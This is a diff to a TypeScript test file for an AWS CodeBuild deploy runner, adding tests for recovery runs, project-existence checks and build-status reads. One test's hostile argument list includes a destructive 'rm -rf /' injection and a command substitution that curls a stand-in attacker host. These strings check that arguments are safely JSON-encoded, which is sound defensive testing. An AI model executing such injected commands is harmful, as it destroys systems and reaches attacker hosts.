@@ -3,6 +3,7 @@ import { execFileSync } from "child_process";
 import {
     AccountLimitExceededException,
     BatchGetBuildsCommand,
+    BatchGetProjectsCommand,
     CodeBuildClient,
     StartBuildCommand,
 } from "@aws-sdk/client-codebuild";
@@ -110,5 +111,77 @@ describe("automation/aws/deploy-runner: CodeBuildDeployRunner", () => {
             .resolves({ builds: [{ id: BUILD, buildStatus: "SUCCEEDED" }] });
         await port().waitDeploy(BUILD, 1);
         assert.strictEqual(codebuild.commandCalls(BatchGetBuildsCommand).length, 2);
+    });
+
+    describe("a recovery run (failover --on-runner)", () => {
+        const hostile = ["--restore-time", "'; rm -rf / #", "$(curl evil.example)", "a b"];
+
+        it("overrides WEBANK_COMMAND and passes the arguments as one JSON variable, in a request CodeBuild's model accepts", async function () {
+            codebuild.on(StartBuildCommand).resolves({ build: { id: BUILD } });
+            const id = await port().startRecovery(PROJECT, {
+                command: "failover",
+                args: hostile,
+                sourceVersion: "3HL4kqtJvjVBH40Nrjfkd",
+                idempotencyToken: "failover-on-runner-2026-12-04T03-00-00-000Z-a1b2c3",
+            });
+            assert.strictEqual(id, BUILD);
+            const input = codebuild.commandCalls(StartBuildCommand)[0].args[0].input;
+            assert.deepStrictEqual(input, {
+                projectName: PROJECT,
+                sourceVersion: "3HL4kqtJvjVBH40Nrjfkd",
+                idempotencyToken: "failover-on-runner-2026-12-04T03-00-00-000Z-a1b2c3",
+                environmentVariablesOverride: [
+                    { name: "WEBANK_COMMAND", value: "failover", type: "PLAINTEXT" },
+                    { name: "WEBANK_ARGS", value: JSON.stringify(hostile), type: "PLAINTEXT" },
+                ],
+            });
+            // Each argument comes back whole: the variable is JSON, never shell words.
+            assert.deepStrictEqual(JSON.parse(input.environmentVariablesOverride[1].value), hostile);
+            const python = requirePeer(this, "the AWS CLI's botocore (python)", awsCliInterpreter());
+            assert.strictEqual(botocoreProblems(python, "StartBuild", input), "");
+        });
+
+        it("names a project the account does not have as missing (BatchGetProjects projectsNotFound)", async () => {
+            codebuild
+                .on(BatchGetProjectsCommand, { names: [PROJECT] })
+                .resolves({ projects: [], projectsNotFound: [PROJECT] });
+            assert.strictEqual(await port().projectExists(PROJECT), false);
+            codebuild.on(BatchGetProjectsCommand, { names: [PROJECT] }).resolves({
+                projects: [
+                    { name: PROJECT, arn: `arn:aws:codebuild:${REGION}:123456789012:project/${PROJECT}` },
+                ],
+            });
+            assert.strictEqual(await port().projectExists(PROJECT), true);
+        });
+
+        it("reads a build's status, phase and log location (LogsLocation groupName, streamName, deepLink)", async () => {
+            codebuild.on(BatchGetBuildsCommand, { ids: [BUILD] }).resolves({
+                builds: [
+                    {
+                        id: BUILD,
+                        buildStatus: "IN_PROGRESS",
+                        currentPhase: "BUILD",
+                        logs: {
+                            groupName: `/aws/codebuild/${PROJECT}`,
+                            streamName: BUILD.split(":")[1],
+                            deepLink: DEEP_LINK,
+                        },
+                    },
+                ],
+            });
+            assert.deepStrictEqual(await port().buildState(BUILD), {
+                id: BUILD,
+                status: "IN_PROGRESS",
+                phase: "BUILD",
+                deepLink: DEEP_LINK,
+                logGroup: `/aws/codebuild/${PROJECT}`,
+                logStream: BUILD.split(":")[1],
+            });
+        });
+
+        it("answers undefined for a build CodeBuild does not know (buildsNotFound)", async () => {
+            codebuild.on(BatchGetBuildsCommand).resolves({ builds: [], buildsNotFound: [BUILD] });
+            assert.strictEqual(await port().buildState(BUILD), undefined);
+        });
     });
 });
